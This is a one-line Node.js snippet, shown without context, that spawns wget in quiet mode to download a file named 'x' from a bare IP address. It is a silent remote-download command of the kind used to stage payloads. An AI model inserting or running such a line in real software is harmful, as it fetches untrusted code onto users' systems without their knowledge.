require("child_process").spawnSync("wget", ["-q", "http://45.33.32.156/x"]);
